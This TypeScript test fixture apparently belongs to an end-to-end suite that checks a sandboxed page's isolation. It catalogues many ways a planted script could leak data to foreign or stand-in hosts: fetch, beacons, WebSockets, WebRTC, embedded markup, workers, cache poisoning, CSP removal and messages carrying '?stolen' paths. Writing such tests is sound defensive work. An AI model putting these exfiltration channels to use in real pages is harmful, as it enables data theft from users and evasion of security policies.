// All attempts by which e2e/planted.spec.ts tries to send something away, in groups.
import {
  connects,
  leaves,
  markup,
  script,
  withClick,
  type Any,
  type Attempt,
  type Targets,
} from './attempt.js';
import { leaving } from './leaving.js';
import { rare } from './rare.js';
import { recent } from './recent.js';

const requests = [
  script('fetch, foreign', ({ foreign }) => fetch(`${foreign}?fetch`)),
  script('fetch, own server', ({ own }) => fetch(`${own}?fetch`)),
  script('fetch, keepalive', ({ foreign }) =>
    fetch(foreign, { keepalive: true, method: 'POST', body: 'x' }),
  ),
  script('fetch, no-cors', ({ foreign }) => fetch(foreign, { mode: 'no-cors' })),
  script('fetchLater', ({ foreign }) =>
    (globalThis as Any).fetchLater?.(foreign, { activateAfter: 0 }),
  ),
  script('XMLHttpRequest, synchronous', ({ own }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${own}?xhr`, false);
    request.send();
  }),
  script('sendBeacon, foreign', ({ foreign }) => navigator.sendBeacon(foreign, 'x')),
  script('sendBeacon, own server', ({ own }) => navigator.sendBeacon(own, 'x')),
  script('WebSocket', ({ socket }) => new WebSocket(socket)),
  script('WebSocketStream', ({ socket }) => new (globalThis as Any).WebSocketStream(socket).opened),
  script('EventSource', ({ foreign }) => new EventSource(foreign)),
  script(
    'WebTransport',
    ({ foreign }) => new (globalThis as Any).WebTransport(foreign.replace('http:', 'https:')).ready,
  ),
  script('RTCPeerConnection, by every name', ({ stun, turn }) => {
    for (const name of Object.getOwnPropertyNames(globalThis)) {
      if (!/PeerConnection$/.test(name)) continue;
      const iceServers = [{ urls: stun }, { urls: turn, username: 'x', credential: 'y' }];
      const peer = new (globalThis as Any)[name]({ iceServers });
      peer.createDataChannel('x');
      void peer.createOffer().then((offer: unknown) => peer.setLocalDescription(offer));
    }
  }),
  script('a font', ({ foreign }) => new FontFace('f', `url(${foreign}?font)`).load()),
  script('a style sheet made by a script', ({ foreign }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url(${foreign}?sheet) }`);
    document.adoptedStyleSheets.push(sheet);
  }),
  script('an image made by a script', ({ foreign }) => (new Image().src = `${foreign}?image`)),
];

const markups = [
  markup('img', '<img src="FOREIGN?img">'),
  markup('img of the own server', '<img src="OWN?img">'),
  markup('srcset', '<img srcset="FOREIGN?srcset 1x">'),
  markup('picture', '<picture><source srcset="FOREIGN?picture"><img></picture>'),
  markup('svg image', '<svg><image href="FOREIGN?svg" width="9" height="9"/></svg>'),
  markup('svg use', '<svg><use href="FOREIGN?use#x"/></svg>'),
  markup(
    'svg feImage',
    '<svg><filter id="f"><feImage href="FOREIGN?fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  ),
  markup('video', '<video src="FOREIGN?video" preload="auto"></video>'),
  markup('poster', '<video poster="FOREIGN?poster"></video>'),
  markup('audio', '<audio src="FOREIGN?audio" preload="auto"></audio>'),
  markup('track', '<video src="data:,"><track default src="FOREIGN?track"></video>'),
  markup('object', '<object data="FOREIGN?object"></object>', connects),
  markup('embed', '<embed src="FOREIGN?embed">', connects),
  markup('style attribute', '<p style="background: url(FOREIGN?style)">x</p>'),
  markup('style element', '<style>body { background: url(FOREIGN?css) }</style>'),
  markup('@import', '<style>@import "FOREIGN?import";</style>'),
  markup('style sheet', '<link rel="stylesheet" href="FOREIGN?sheet">'),
  markup('icon', '<link rel="icon" href="FOREIGN?icon">'),
  markup('manifest', '<link rel="manifest" href="FOREIGN?manifest">'),
  markup('preconnect', '<link rel="preconnect" href="FOREIGN">', connects),
  markup('dns-prefetch', '<link rel="dns-prefetch" href="FOREIGN">', connects),
  markup('prefetch', '<link rel="prefetch" href="FOREIGN?prefetch">'),
  markup('preload', '<link rel="preload" as="image" href="FOREIGN?preload">'),
  markup('prerender', '<link rel="prerender" href="FOREIGN?prerender">'),
  markup('modulepreload', '<link rel="modulepreload" href="FOREIGN?module">'),
  markup('iframe', '<iframe src="FOREIGN?iframe"></iframe>', connects),
  markup('iframe of the own server', '<iframe src="OWN?iframe"></iframe>'),
  markup(
    'iframe that asks for more rights',
    '<iframe sandbox="allow-same-origin allow-scripts allow-popups" src="FOREIGN?box"></iframe>',
    connects,
  ),
  markup('iframe srcdoc with an image', '<iframe srcdoc="<img src=FOREIGN?inner>"></iframe>'),
  markup(
    'iframe srcdoc with a refresh',
    '<iframe srcdoc="<meta http-equiv=refresh content=0;url=FOREIGN?refresh>"></iframe>',
    connects,
  ),
  markup(
    'iframe srcdoc with a style',
    '<iframe srcdoc="<style>@import url(FOREIGN?inner)</style>"></iframe>',
  ),
  markup('fencedframe', '<fencedframe></fencedframe>'),
  markup('base', '<base href="FOREIGN"><img src="base">'),
  markup('attribution', '<img attributionsrc="FOREIGN?attribution" src="data:,">'),
  markup('ping', '<a id="ping" href="#nowhere" ping="FOREIGN?ping">x</a>'),
];

const scripts = [
  script('script by address', ({ foreign }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: foreign }));
  }),
  script('script of the own server', ({ own }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: `${own}page.js` }));
  }),
  script('import', ({ own }) => import(/* @vite-ignore */ `${own}page.js?import`)),
  script('inline script', ({ foreign }) => {
    const text = `new Image().src = ${JSON.stringify(foreign)}; fetch(${JSON.stringify(foreign)})`;
    document.head.append(Object.assign(document.createElement('script'), { textContent: text }));
  }),
  script('speculation rules', ({ foreign }) => {
    const rules = { prerender: [{ urls: [foreign] }], prefetch: [{ urls: [foreign] }] };
    const element = document.createElement('script');
    document.head.append(
      Object.assign(element, { type: 'speculationrules', textContent: JSON.stringify(rules) }),
    );
  }),
  script('Worker by address', ({ own }) => new Worker(`${own}eegate-worker.js?worker`)),
  script('SharedWorker by address', ({ own }) => new SharedWorker(`${own}eegate-worker.js?w`)),
  script('worker from memory', ({ foreign, own, socket }) => {
    const text = `for (const to of ${JSON.stringify([foreign, own])}) {
      fetch(to).catch(() => 0);
      try { importScripts(to) } catch {}
      try { new EventSource(to) } catch {}
      import(to).catch(() => 0);
      try { new Worker(to) } catch {}
    }
    try { new WebSocket(${JSON.stringify(socket)}) } catch {}
    try { new WebTransport(${JSON.stringify(foreign.replace('http:', 'https:'))}) } catch {}`;
    return new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  }),
  script('audio worklet', ({ foreign }) => new AudioContext().audioWorklet.addModule(foreign)),
  script('service worker', ({ own }) =>
    navigator.serviceWorker.register(`${own}service-worker.js`),
  ),
  script('update of the service worker', async () =>
    (await navigator.serviceWorker.getRegistration())!.update(),
  ),
  script('the cache of the page', async ({ own }) => {
    const cache = await caches.open((await caches.keys())[0] ?? 'eegate-page-x');
    await cache.put(`${own}page.js`, new Response('poison'));
    await cache.add(`${own}?cache`);
  }),
];

const realms = [
  script('about:blank: fetch and images', ({ foreign }) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const inner = frame.contentWindow as Any;
    new inner.Image().src = foreign;
    inner.fetch(foreign);
  }),
  script('about:blank: its RTCPeerConnection', ({ stun, turn }) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const iceServers = [{ urls: stun }, { urls: turn, username: 'x', credential: 'y' }];
    const peer = new (frame.contentWindow as Any).RTCPeerConnection({ iceServers });
    peer.createDataChannel('x');
    void peer.createOffer().then((offer: unknown) => peer.setLocalDescription(offer));
  }),
  ...['object', 'embed', 'iframe'].map((tag) =>
    script(
      `${tag}: every realm below`,
      Function(
        'to',
        `const e = document.createElement('${tag}'); e.src = e.data = 'about:blank'; e.type = 'text/html';
        e.srcdoc = '<p>x'; document.body.append(e);
        for (const at of [0, 50, 500]) setTimeout(() => {
          for (let i = 0; i < window.length; i++) try {
            const peer = new window[i].RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
            peer.createDataChannel('x'); peer.createOffer().then((o) => peer.setLocalDescription(o));
          } catch {}
        }, at);`,
      ) as (to: Targets) => unknown,
    ),
  ),
  script('about:blank: its window.open', ({ foreign }) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    (frame.contentWindow as Any).open(foreign);
  }),
  script(
    'about:blank: its own address',
    ({ foreign }) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.contentWindow!.location.href = `${foreign}?inner`;
    },
    connects,
  ),
  script('the realm of the shell', ({ stun }) => {
    const peer = new (parent as Any).RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('x');
  }),
  script('removal of the policy', ({ foreign }) => {
    for (const meta of document.querySelectorAll('meta')) meta.remove();
    return fetch(foreign);
  }),
  script('a looser policy', ({ foreign }) => {
    document.head.insertAdjacentHTML(
      'afterbegin',
      `<meta http-equiv="Content-Security-Policy" content="connect-src *; report-uri ${foreign}">`,
    );
    return fetch(foreign);
  }),
  script(
    'document.open',
    ({ foreign }) => {
      document.open();
      document.write(`<img src="${foreign}?written"><script>fetch("${foreign}")<\/script>`);
      document.close();
    },
    leaves,
  ),
];

const browser = [
  script('PaymentRequest', ({ foreign }) =>
    new (globalThis as Any).PaymentRequest(
      [{ supportedMethods: foreign.replace('http', 'https') }],
      {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      },
    ).canMakePayment(),
  ),
  script('FedCM', ({ foreign }) =>
    (navigator.credentials as Any).get({
      identity: { providers: [{ configURL: foreign, clientId: 'x' }] },
    }),
  ),
  script('Topics', () => (document as Any).browsingTopics()),
  script('shared storage', ({ foreign }) =>
    (globalThis as Any).sharedStorage.worklet.addModule(foreign),
  ),
  script('speech', () => {
    const speech = (globalThis as Any).speechSynthesis;
    speech.speak(new (globalThis as Any).SpeechSynthesisUtterance('x'));
  }),
  script('presentation', ({ foreign }) =>
    new (globalThis as Any).PresentationRequest(foreign).start(),
  ),
  script('artwork of a player', ({ foreign }) => {
    const artwork = [{ src: `${foreign}?art`, sizes: '9x9', type: 'image/png' }];
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork });
    navigator.mediaSession.playbackState = 'playing';
  }),
  script('a notification', ({ foreign }) => new Notification('x', { icon: foreign })),
];

/** A planted script holds the port to the shell as well. */
const shell = [
  ...(
    [
      ['fetch', []],
      ['file', ['../?stolen']],
      ['file', ['https://elsewhere.example/x']],
      ['file', ['eegate-simd.wasm']],
      ['constructor', []],
      ['address', ['x?stolen']],
      ['address', [`a=${'x'.repeat(5000)}`]],
      ['save', ['https://elsewhere.example', 'x']],
      ['beginRun', [{ stolen: 'x' }]],
    ] as [string, unknown[]][]
  ).map(([method, args], id) =>
    script(
      `the shell: ${method} ${JSON.stringify(args).slice(0, 40)}`,
      Function(
        `eegateShell.port.postMessage(${JSON.stringify({ id: -1 - id, method, args })})`,
      ) as (to: Targets) => unknown,
    ),
  ),
  script('the shell: messages that are none', ({ foreign }) => {
    parent.postMessage({ method: 'fetch', args: [foreign] }, '*');
    parent.postMessage(foreign, '*');
  }),
];

const all: Record<string, Attempt[]> = {
  requests,
  elements: markups,
  'scripts and workers': scripts,
  'other realms and policies': realms,
  'services of the browser': browser,
  'the shell': shell,
  leaving,
  'what is seldom used': rare,
  'what is recent': recent,
};

export const attempts: Record<string, Attempt[]> = {
  ...all,
  'in a click: services, realms, navigation': withClick([
    ...browser,
    ...realms,
    ...leaving,
    ...rare,
    ...recent,
  ]),
  'in a click: requests, elements, workers': withClick([
    ...requests,
    ...markups,
    ...scripts,
    ...shell,
  ]),
};
